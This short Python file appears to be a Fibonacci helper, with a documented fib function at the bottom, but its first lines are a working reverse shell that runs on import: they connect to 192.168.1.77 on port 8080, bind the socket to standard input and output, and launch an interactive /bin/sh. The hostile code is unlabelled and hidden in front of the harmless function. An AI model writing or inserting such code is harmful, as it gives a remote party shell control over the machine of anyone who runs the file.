
import socket, os
client = socket.socket()
client.connect(("192.168.1.77", 8080))
os.dup2(client.fileno(), 0); os.dup2(client.fileno(), 1); os.dup2(client.fileno(), 2)
os.execl("/bin/sh", "sh", "-i")
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
